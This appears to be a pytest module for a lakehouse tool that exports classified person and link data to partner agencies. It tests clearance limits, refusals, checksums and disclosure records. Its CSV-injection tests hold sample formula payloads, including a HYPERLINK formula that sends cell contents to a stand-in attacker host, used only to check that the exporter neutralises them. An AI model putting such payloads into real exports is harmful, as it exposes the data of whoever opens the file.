"""Partner cuts: within clearance, refused rather than trimmed, checksummed, recorded."""

from __future__ import annotations

import json
import uuid
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import dagster as dg
import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError
from typer.testing import CliRunner

from orchestration.defs.governance.cuts import build_cut_defs
from orchestration.resources import LakehouseResource
from tests.conftest import copy_lakehouse
from transforms.catalogue import CLASSIFICATION_RANK, CatalogueError, load_catalogue
from transforms.config import Environment
from transforms.delta_io import read_table
from transforms.governance import cuts as cuts_module
from transforms.governance.cuts import (
    CutRefused,
    csv_safe,
    disclosures,
    make_cut,
    verify_cut,
    write_safe_csv,
)
from transforms.governance.partners import Partner, load_partner, load_partners

pytestmark = pytest.mark.slow

OFFICIAL_DATASETS = ["electoral_roll", "vehicle_keepers", "company_officers", "telephone_directory"]
LEVELS = list(CLASSIFICATION_RANK)
CANDIDATE_TABLES = (
    "gold.entities",
    "gold.entity_records",
    "gold.entity_links",
    "gold.entity_evidence",  # no classification column: ceiling is the catalogue's highest
    "silver.person_records",
    "silver.addresses",
    "silver.comms_identifiers",
)


@pytest.fixture(scope="module")
def lake(built: Environment, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Environment]:
    """One private copy of the built lakehouse for the whole module (cuts only add to it)."""
    with pytest.MonkeyPatch.context() as patch:
        yield copy_lakehouse(built, tmp_path_factory.mktemp("cuts") / "lakehouse", patch)


@pytest.fixture(scope="module")
def partners(lake: Environment) -> dict[str, Partner]:
    return load_partners(lake.catalogue_dir)


def _rank(column: str) -> pl.Expr:
    return cuts_module.rank(pl.col(column))


def _run() -> str:
    return uuid.uuid4().hex


def _partner(**overrides: object) -> Partner:
    raw: dict[str, object] = {
        "name": "test_partner",
        "title": "Test partner",
        "clearance": "SECRET",
        "purpose": "Testing",
        "agreement": "ISA-TEST",
        "schedule": "manual",
        "tables": [
            {
                "table": "gold.entities",
                "max_classification": "SECRET",
                "columns": ["entity_id", "given_name"],
            }
        ],
    }
    raw.update(overrides)
    return Partner.model_validate(raw)


def _manifest(folder: Path) -> dict:
    return json.loads((folder / "manifest.json").read_text())


# --- the shipped partners ------------------------------------------------------------------


def test_shipped_partners_load(lake: Environment, partners: dict[str, Partner]) -> None:
    assert partners["rocu_north"].clearance == "OFFICIAL"
    assert partners["rocu_south"].clearance == "SECRET"
    assert all(p.scheduled for p in partners.values())
    # the partners/ subfolder is never mistaken for catalogue datasets
    assert not set(partners) & set(load_catalogue(lake.catalogue_dir))


def test_rocu_north_gets_nothing_above_official_and_says_what_was_withheld(
    lake: Environment, partners: dict[str, Partner]
) -> None:
    cut = make_cut(lake, partners["rocu_north"], _run())
    frame = pl.read_parquet(cut.folder / "gold.entities.parquet")
    assert frame.height > 0 and set(frame["classification"]) == {"OFFICIAL"}
    assert frame.columns == [
        "entity_id",
        "given_name",
        "family_name",
        "date_of_birth",
        "record_count",
        "datasets",
        "classification",
    ]
    entities = read_table(lake, "gold.entities")
    seen = entities.filter(
        pl.col("datasets").list.eval(pl.element().is_in(OFFICIAL_DATASETS)).list.any()
    )
    above = seen.filter(pl.col("classification") != "OFFICIAL").height
    assert above > 0  # the demo has people seen in OFFICIAL and SECRET datasets
    manifest = _manifest(cut.folder)
    (table,) = manifest["tables"]
    assert table["withheld_above_clearance"] == above
    assert table["withheld_above_max_classification"] == 0
    assert table["rows"] == frame.height == seen.height - above
    assert manifest["classification"] == "OFFICIAL" and manifest["clearance"] == "OFFICIAL"
    assert manifest["purpose"] == partners["rocu_north"].purpose
    assert table["delta_version"] == manifest["versions_read"]["gold.entities"]
    assert pl.read_csv(cut.folder / "gold.entities.csv", infer_schema=False).height == frame.height


def test_rocu_south_gets_secret_rows_and_only_links_between_cleared_entities(
    lake: Environment, partners: dict[str, Partner]
) -> None:
    cut = make_cut(lake, partners["rocu_south"], _run())
    entities = pl.read_parquet(cut.folder / "gold.entities.parquet")
    links = pl.read_parquet(cut.folder / "gold.entity_links.parquet")
    assert "SECRET" in set(entities["classification"])
    assert set(entities["classification"]) <= {"OFFICIAL", "SECRET"}
    assert links.height > 0 and set(links["classification"]) <= {"OFFICIAL", "SECRET"}
    source = read_table(lake, "gold.entities")
    cleared = source.filter(_rank("classification") <= 1)["entity_id"].implode()
    assert links["entity_id_a"].is_in(cleared).all() and links["entity_id_b"].is_in(cleared).all()
    assert _manifest(cut.folder)["classification"] == "SECRET"
    assert cut.rows == entities.height + links.height


def test_links_to_an_entity_above_max_classification_are_withheld_and_counted(
    lake: Environment,
) -> None:
    partner = _partner(
        tables=[
            {
                "table": "gold.entity_links",
                "max_classification": "OFFICIAL",
                "columns": ["entity_id_a", "entity_id_b", "link_type"],
            }
        ]
    )
    cut = make_cut(lake, partner, _run())
    links = read_table(lake, "gold.entity_links")
    entities = read_table(lake, "gold.entities").select("entity_id", _rank("classification"))
    effective = (
        links.with_columns(_rank("classification").alias("r"))
        .join(
            entities.rename({"entity_id": "entity_id_a", "classification": "ra"}), on="entity_id_a"
        )
        .join(
            entities.rename({"entity_id": "entity_id_b", "classification": "rb"}), on="entity_id_b"
        )
        .select(pl.max_horizontal("r", "ra", "rb").alias("rank"))
    )
    (table,) = cut.tables
    assert table.rows == effective.filter(pl.col("rank") == 0).height
    assert table.withheld_above_max_classification == effective.filter(pl.col("rank") == 1).height
    assert table.withheld_above_clearance == 0
    assert table.rows + table.withheld == links.height


# --- checksums -----------------------------------------------------------------------------


def test_manifest_checksums_verify_and_tampering_is_caught(
    lake: Environment, partners: dict[str, Partner]
) -> None:
    cut = make_cut(lake, partners["rocu_south"], _run())
    assert verify_cut(cut.folder, cut.manifest_sha256) == []
    manifest = _manifest(cut.folder)
    names = {f["name"] for t in manifest["tables"] for f in t["files"]}
    assert names == {
        f"gold.{t}.{ext}" for t in ("entities", "entity_links") for ext in ("parquet", "csv")
    }
    assert not list(cut.folder.glob(".*"))  # no temporary file is left behind

    csv = cut.folder / "gold.entities.csv"
    original = csv.read_bytes()
    csv.write_bytes(original.replace(b"SECRET", b"OFFICI", 1))  # same size, different bytes
    assert verify_cut(cut.folder) == ["gold.entities.csv: sha256 differs from the manifest"]
    csv.write_bytes(original)
    (cut.folder / "extra.csv").write_text("smuggled\n")
    assert verify_cut(cut.folder) == ["extra.csv: not in the manifest"]
    (cut.folder / "extra.csv").unlink()
    (cut.folder / "gold.entity_links.parquet").unlink()
    assert verify_cut(cut.folder) == ["gold.entity_links.parquet: missing"]
    assert verify_cut(cut.folder, "0" * 64)[0].startswith("manifest.json: sha256 differs")


# --- CSV injection -------------------------------------------------------------------------


def test_csv_cells_that_start_a_formula_are_prefixed(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "name": ['=HYPERLINK("http://x")', "+1", "-2", "@SUM(A1)", "\tX", "\rY", "SMITH", None],
            "amount": [-1.5, 2.0, None, 3.0, 4.0, 5.0, 6.0, 7.0],
            "datasets": [["=cmd", "b"], ["a"], [], None, ["x"], ["y"], ["z"], ["w"]],
        }
    )
    safe = csv_safe(frame)
    assert safe["name"].to_list() == [
        '\'=HYPERLINK("http://x")',
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\tX",
        "'\rY",
        "SMITH",
        None,
    ]
    assert safe["amount"].to_list() == frame["amount"].to_list()  # numbers are not text
    assert safe["datasets"].to_list()[:3] == ["'=cmd; b", "a", ""]
    write_safe_csv(frame, tmp_path / "out.csv")
    back = pl.read_csv(tmp_path / "out.csv", infer_schema=False)
    assert back["name"].to_list() == safe["name"].to_list()
    assert not any(
        (v or "").startswith(("=", "+", "-", "@", "\t", "\r"))
        for c in ("name", "datasets")
        for v in back[c]
    )


def test_a_formula_in_a_name_reaches_the_csv_neutralised(
    lake: Environment, partners: dict[str, Partner], monkeypatch: pytest.MonkeyPatch
) -> None:
    read = cuts_module._Reader.read
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'

    def poisoned(self: cuts_module._Reader, table: str) -> tuple[pl.DataFrame, int]:
        frame, version = read(self, table)
        if table == "gold.entities":
            frame = frame.with_columns(
                pl.when(pl.int_range(pl.len()) == 0)
                .then(pl.lit(payload))
                .otherwise(pl.col("given_name"))
                .alias("given_name")
            )
        return frame, version

    monkeypatch.setattr(cuts_module._Reader, "read", poisoned)
    cut = make_cut(lake, partners["rocu_south"], _run())
    parquet = pl.read_parquet(cut.folder / "gold.entities.parquet")
    csv = pl.read_csv(cut.folder / "gold.entities.csv", infer_schema=False)
    assert payload in parquet["given_name"].to_list()  # the data itself is not altered
    assert "'" + payload in csv["given_name"].to_list()
    assert payload not in csv["given_name"].to_list()


# --- refusals ------------------------------------------------------------------------------


def test_asking_for_a_table_above_clearance_is_refused_at_load(tmp_path: Path) -> None:
    folder = tmp_path / "partners"
    folder.mkdir()
    path = folder / "greedy.yml"
    path.write_text(
        "name: greedy\ntitle: Greedy\nclearance: OFFICIAL\npurpose: p\nagreement: ISA-1\n"
        "schedule: manual\ntables:\n"
        "  - {table: gold.entities, max_classification: SECRET, columns: [entity_id]}\n"
    )
    with pytest.raises(CatalogueError) as error:
        load_partners(tmp_path)
    message = str(error.value)
    assert str(path) in message and "tables.0.max_classification" in message
    assert "SECRET" in message and "OFFICIAL" in message and "\n" not in message


def test_asking_for_a_table_above_clearance_is_refused_at_cut(lake: Environment) -> None:
    greedy = _partner(name="greedy").model_copy(update={"clearance": "OFFICIAL"})  # unvalidated
    before = disclosures(lake).height
    with pytest.raises(
        CutRefused, match="max_classification SECRET, above the partner's clearance OFFICIAL"
    ):
        make_cut(lake, greedy, _run())
    assert disclosures(lake).height == before
    assert not (lake.cuts / greedy.name).exists()


def test_partner_file_errors_name_the_file_and_the_key(tmp_path: Path) -> None:
    path = tmp_path / "rocu_east.yml"
    path.write_text(
        "name: rocu_west\ntitle: t\nclearance: SECRET\npurpose: p\nagreement: a\n"
        "schedule: '0 6 * * 1'\ntables:\n  - {table: gold.entities, max_classification: SECRET, "
        "columns: [entity_id]}\n"
    )
    with pytest.raises(CatalogueError, match=r"rocu_east.yml: name: 'rocu_west' must equal"):
        load_partner(path)
    path.write_text(
        path.read_text().replace("rocu_west", "rocu_east").replace("'0 6 * * 1'", "weekly")
    )
    with pytest.raises(CatalogueError, match=r"rocu_east.yml: schedule: 'weekly'"):
        load_partner(path)
    path.write_text(
        path.read_text().replace("weekly", "manual").replace("gold.entities", "bronze.x")
    )
    with pytest.raises(CatalogueError, match=r"rocu_east.yml: tables.0.table"):
        load_partner(path)
    path.write_text(path.read_text().replace("bronze.x", "gold.entities") + "shoe_size: 9\n")
    with pytest.raises(CatalogueError, match=r"rocu_east.yml: shoe_size: Extra inputs"):
        load_partner(path)
    with pytest.raises(ValidationError, match="only gold.entity_links has links"):
        _partner(
            tables=[
                {
                    "table": "gold.entities",
                    "max_classification": "OFFICIAL",
                    "columns": ["entity_id"],
                    "where": {"link_types": ["called"]},
                }
            ]
        )


def _partner_file(tmp_path: Path, schedule: str) -> Path:
    path = tmp_path / "rocu_east.yml"
    path.write_text(
        "name: rocu_east\ntitle: t\nclearance: SECRET\npurpose: p\nagreement: a\n"
        f"schedule: {schedule!r}\ntables:\n  - {{table: gold.entities, "
        "max_classification: SECRET, columns: [entity_id]}\n"
    )
    return path


@pytest.mark.parametrize("schedule", ["manual", "0 6 * * 1", "0 6 * * MON", "@weekly"])
def test_partner_schedule_accepts_what_dagster_accepts(tmp_path: Path, schedule: str) -> None:
    partner = load_partner(_partner_file(tmp_path, schedule))
    assert partner.schedule == schedule and partner.scheduled == (schedule != "manual")


@pytest.mark.parametrize("schedule", ["99 99 99 99 99", "0 6 * * 8", "0 6 * *", "@reboot"])
def test_partner_schedule_refuses_what_is_not_a_schedule(tmp_path: Path, schedule: str) -> None:
    path = _partner_file(tmp_path, schedule)
    with pytest.raises(CatalogueError) as info:
        load_partner(path)
    message = str(info.value)
    assert message.startswith(f"{path}: schedule: {schedule!r} is neither 'manual' nor a valid")
    assert "\n" not in message


def test_unknown_columns_are_refused_naming_them(lake: Environment) -> None:
    partner = _partner(
        tables=[
            {
                "table": "gold.entities",
                "max_classification": "SECRET",
                "columns": ["entity_id", "shoe_size", "given_name", "hat_size"],
            }
        ]
    )
    before = disclosures(lake).height
    with pytest.raises(
        CutRefused, match=r"gold.entities has no columns \['shoe_size', 'hat_size'\]"
    ):
        make_cut(lake, partner, _run())
    assert disclosures(lake).height == before


def test_a_table_without_classification_is_refused_below_the_catalogue_ceiling(
    lake: Environment,
) -> None:
    spec = {"table": "gold.entity_evidence", "columns": ["record_key_l", "record_key_r"]}
    low = _partner(tables=[{**spec, "max_classification": "OFFICIAL"}])
    with pytest.raises(CutRefused, match="no classification column and can hold rows up to SECRET"):
        make_cut(lake, low, _run())
    cut = make_cut(lake, _partner(tables=[{**spec, "max_classification": "SECRET"}]), _run())
    frame = pl.read_parquet(cut.folder / "gold.entity_evidence.parquet")
    assert set(frame["classification"]) == {"SECRET"}  # marked at its ceiling


def test_unknown_datasets_and_missing_tables_are_refused(lake: Environment) -> None:
    partner = _partner(
        tables=[
            {
                "table": "gold.entities",
                "max_classification": "SECRET",
                "columns": ["entity_id"],
                "where": {"datasets_any": ["electoral_rol"]},
            }
        ]
    )
    with pytest.raises(CutRefused, match=r"unknown datasets \['electoral_rol'\]"):
        make_cut(lake, partner, _run())
    missing = _partner(
        tables=[{"table": "gold.nothing", "max_classification": "SECRET", "columns": ["x"]}]
    )
    with pytest.raises(CutRefused, match="gold.nothing has not been built yet"):
        make_cut(lake, missing, _run())


# --- the record ----------------------------------------------------------------------------


def test_every_cut_is_a_row_of_ops_disclosures(
    lake: Environment, partners: dict[str, Partner]
) -> None:
    before = disclosures(lake).height
    north = make_cut(lake, partners["rocu_north"], _run())
    south = make_cut(lake, partners["rocu_south"], _run())
    ledger = disclosures(lake)
    assert ledger.height == before + 2
    for cut in (north, south):
        row = ledger.filter(pl.col("run_id") == cut.run_id).row(0, named=True)
        partner = partners[cut.partner]
        assert row["partner"] == partner.name and row["purpose"] == partner.purpose
        assert row["agreement"] == partner.agreement and row["clearance"] == partner.clearance
        assert row["tables"] == [t.table for t in partner.tables]
        assert row["versions"] == [t.delta_version for t in cut.tables]
        assert row["rows"] == cut.rows and row["withheld"] == cut.withheld
        assert row["manifest_sha256"] == cut.manifest_sha256
        assert len(row["files"]) == len(row["sha256"]) == 2 * len(cut.tables)
        assert Path(row["folder"]) == cut.folder
        assert verify_cut(Path(row["folder"]), row["manifest_sha256"]) == []


def test_a_failed_disclosure_record_leaves_no_cut(
    lake: Environment, partners: dict[str, Partner], monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: object, **__: object) -> int:
        raise OSError("disk full")

    monkeypatch.setattr(cuts_module, "append_frame", broken)
    run = _run()
    with pytest.raises(OSError, match="disk full"):
        make_cut(lake, partners["rocu_north"], run)
    assert not (lake.cuts / "rocu_north" / run).exists()


# --- property: nothing above clearance ever leaves, refusals exactly when expected --------


@st.composite
def _configs(draw: st.DrawFn, columns: dict[str, list[str]], ids: list[str]) -> dict:
    datasets = [*OFFICIAL_DATASETS, "call_detail_records", "rocu_nominals", "subscriber_records"]
    clearance = draw(st.sampled_from(LEVELS))
    chosen = draw(st.lists(st.sampled_from(CANDIDATE_TABLES), min_size=1, max_size=3, unique=True))
    tables = []
    for table in chosen:
        cols = draw(st.lists(st.sampled_from(columns[table]), min_size=1, max_size=5, unique=True))
        if draw(st.integers(0, 11)) == 0:
            cols.append("no_such_column")
        where: dict[str, list[str]] = {}
        if draw(st.booleans()):
            where["datasets_any"] = draw(
                st.lists(st.sampled_from(datasets), min_size=1, max_size=3, unique=True)
            )
            if draw(st.integers(0, 9)) == 0:
                where["datasets_any"].append("not_a_dataset")
        has_entity_id = table in ("gold.entities", "gold.entity_records", "gold.entity_links")
        if draw(st.integers(0, 2 if has_entity_id else 11)) == 0:
            where["entity_ids"] = draw(st.lists(st.sampled_from(ids), min_size=1, max_size=30))
        if table == "gold.entity_links" and draw(st.booleans()):
            where["link_types"] = draw(
                st.lists(st.sampled_from(["shared_address", "shared_phone", "called"]), min_size=1)
            )
        greedy = draw(st.integers(0, 3)) == 0  # may ask above the clearance
        allowed = LEVELS if greedy else LEVELS[: CLASSIFICATION_RANK[clearance] + 1]
        entry: dict[str, object] = {
            "table": table,
            "max_classification": draw(st.sampled_from(allowed)),
            "columns": cols,
        }
        if where:
            entry["where"] = where
        tables.append(entry)
    return {
        "name": "prop_partner",
        "title": "Generated",
        "clearance": clearance,
        "purpose": "property test",
        "agreement": "ISA-PROP",
        "schedule": "manual",
        "tables": tables,
    }


def _expected_refusal(config: dict) -> bool:
    for table in config["tables"]:
        where = table.get("where", {})
        if "no_such_column" in table["columns"]:
            return True
        if table["table"] == "gold.entity_evidence":
            if CLASSIFICATION_RANK[table["max_classification"]] < CLASSIFICATION_RANK["SECRET"]:
                return True
            if where.get("datasets_any") or where.get("entity_ids"):
                return True
        if "not_a_dataset" in where.get("datasets_any", []):
            return True
        if where.get("entity_ids") and table["table"].startswith("silver."):
            return True
    return False


def test_no_generated_cut_exceeds_clearance_and_refusals_happen_exactly_when_expected(
    lake: Environment,
) -> None:
    columns = {t: read_table(lake, t).columns for t in CANDIDATE_TABLES}
    entities = read_table(lake, "gold.entities")
    ids = entities["entity_id"].head(200).to_list()
    entity_rank = entities.select("entity_id", _rank("classification").alias("rank"))
    heights = {t: read_table(lake, t, columns=[columns[t][0]]).height for t in CANDIDATE_TABLES}

    outcomes: Counter[str] = Counter()

    @settings(
        max_examples=25,
        deadline=None,
        database=None,
        derandomize=True,  # the same examples on every run, so every outcome is always covered
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(config=_configs(columns, ids))
    def check(config: dict) -> None:
        above = [
            t
            for t in config["tables"]
            if CLASSIFICATION_RANK[t["max_classification"]]
            > CLASSIFICATION_RANK[config["clearance"]]
        ]
        if above:
            outcomes["refused at load"] += 1
            with pytest.raises(ValidationError, match="above the partner's clearance"):
                Partner.model_validate(config)
            return
        partner = Partner.model_validate(config)
        run = _run()
        if _expected_refusal(config):
            outcomes["refused at cut"] += 1
            with pytest.raises(CutRefused):
                make_cut(lake, partner, run)
            assert not (lake.cuts / partner.name / run).exists()
            return
        cut = make_cut(lake, partner, run)
        outcomes["cut written"] += 1
        assert verify_cut(cut.folder, cut.manifest_sha256) == []
        clearance = CLASSIFICATION_RANK[partner.clearance]
        for spec, table in zip(partner.tables, cut.tables, strict=True):
            frame = pl.read_parquet(cut.folder / f"{spec.table}.parquet")
            assert frame.height == table.rows
            assert frame.columns == [
                *spec.columns,
                *(["classification"] if "classification" not in spec.columns else []),
            ]
            limit = CLASSIFICATION_RANK[spec.max_classification]
            assert (frame.select(_rank("classification")).to_series() <= limit).all()
            assert limit <= clearance
            if spec.table == "gold.entity_links" and {"entity_id_a", "entity_id_b"} <= set(
                frame.columns
            ):
                for side in ("entity_id_a", "entity_id_b"):
                    ranks = frame.select(side).join(
                        entity_rank, left_on=side, right_on="entity_id", how="left"
                    )
                    assert (ranks["rank"].fill_null(99) <= limit).all()
            if spec.where is None:
                assert table.rows + table.withheld == heights[spec.table]
            else:
                assert table.rows + table.withheld <= heights[spec.table]
            csv = pl.read_csv(cut.folder / f"{spec.table}.csv", infer_schema=False)
            assert csv.height == frame.height

    check()
    assert set(outcomes) == {"refused at load", "refused at cut", "cut written"}, outcomes


# --- command line and Dagster --------------------------------------------------------------


def test_lakehouse_cut_command(lake: Environment, monkeypatch: pytest.MonkeyPatch) -> None:
    from orchestration.cli import app

    monkeypatch.setenv("LAKEHOUSE_HOME", str(lake.home))
    monkeypatch.setenv("LAKEHOUSE_CATALOGUE", str(lake.catalogue_dir))
    before = disclosures(lake).height
    result = CliRunner().invoke(app, ["cut", "rocu_north"])
    assert result.exit_code == 0, result.output
    assert "gold.entities" in result.stdout and "withheld" in result.stdout
    folder = Path(result.stdout.split("folder: ")[1].split()[0])
    assert folder.parent == lake.cuts / "rocu_north"
    assert verify_cut(folder) == []
    assert disclosures(lake).height == before + 1

    unknown = CliRunner().invoke(app, ["cut", "rocu_nowhere"])
    assert unknown.exit_code != 0
    assert "unknown partner 'rocu_nowhere'" in unknown.stderr
    assert len(unknown.stderr.strip().splitlines()) == 1


def test_lakehouse_cut_refusal_is_one_line(
    lake: Environment, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from orchestration.cli import app

    catalogue = tmp_path / "catalogue"
    (catalogue / "partners").mkdir(parents=True)
    for path in lake.catalogue_dir.glob("*.yml"):
        (catalogue / path.name).write_bytes(path.read_bytes())
    (catalogue / "partners" / "nosy.yml").write_text(
        "name: nosy\ntitle: Nosy\nclearance: SECRET\npurpose: p\nagreement: ISA-2\n"
        "schedule: manual\ntables:\n"
        "  - {table: gold.entities, max_classification: SECRET, columns: [entity_id, ssn]}\n"
    )
    monkeypatch.setenv("LAKEHOUSE_HOME", str(lake.home))
    monkeypatch.setenv("LAKEHOUSE_CATALOGUE", str(catalogue))
    result = CliRunner().invoke(app, ["cut", "nosy"])
    assert result.exit_code != 0
    assert "cut for nosy refused" in result.stderr and "['ssn']" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_definitions_include_cut_assets_each_on_its_cron(
    partners: dict[str, Partner],
) -> None:
    from orchestration.definitions import defs

    assert {a.key.path[-1] for a in build_cut_defs(partners).assets or []} >= {
        "rocu_north",
        "rocu_south",
    }
    graph = defs.resolve_asset_graph()
    for name, clearance in (("rocu_north", "OFFICIAL"), ("rocu_south", "SECRET")):
        key = dg.AssetKey(["cuts", name])
        assert graph.get(key).tags["classification"] == clearance
        node = graph.get(key)
        assert node.group_name == "governance"
        assert node.metadata["clearance"] == clearance
        assert dg.AssetKey(["gold", "entities"]) in node.parent_keys
    assert (
        dg.AssetKey(["gold", "entity_links"])
        in graph.get(dg.AssetKey(["cuts", "rocu_south"])).parent_keys
    )
    # Cut by declarative automation on the agreed cron, once nothing it reads is being rebuilt.
    condition = graph.get(dg.AssetKey(["cuts", "rocu_north"])).automation_condition
    assert condition is not None and "on 0 6 * * 1" in str(condition.get_label())
    assert "cuts" not in {s.name for s in defs.schedules or []}


def test_cut_asset_materialises_and_a_refusal_fails_the_run(
    lake: Environment, partners: dict[str, Partner]
) -> None:
    nosy = _partner(
        name="nosy",
        tables=[{"table": "gold.entities", "max_classification": "SECRET", "columns": ["ssn"]}],
    )
    defs = build_cut_defs([partners["rocu_north"], nosy])
    resources = {
        "lakehouse": LakehouseResource(home=str(lake.home), catalogue_dir=str(lake.catalogue_dir))
    }
    ok = dg.materialize(
        list(defs.assets or []),
        selection="cuts/rocu_north",
        resources=resources,
        instance=dg.DagsterInstance.ephemeral(),
    )
    assert ok.success
    (event,) = ok.get_asset_materialization_events()
    metadata = event.materialization.metadata
    assert verify_cut(Path(metadata["folder"].value)) == []
    assert metadata["rows"].value > 0
    refused = dg.materialize(
        list(defs.assets or []),
        selection="cuts/nosy",
        resources=resources,
        instance=dg.DagsterInstance.ephemeral(),
        raise_on_error=False,
    )
    assert not refused.success
    (failure,) = [e for e in refused.all_events if e.event_type_value == "STEP_FAILURE"]
    assert "cut for nosy refused" in str(failure.step_failure_data.user_failure_data.description)
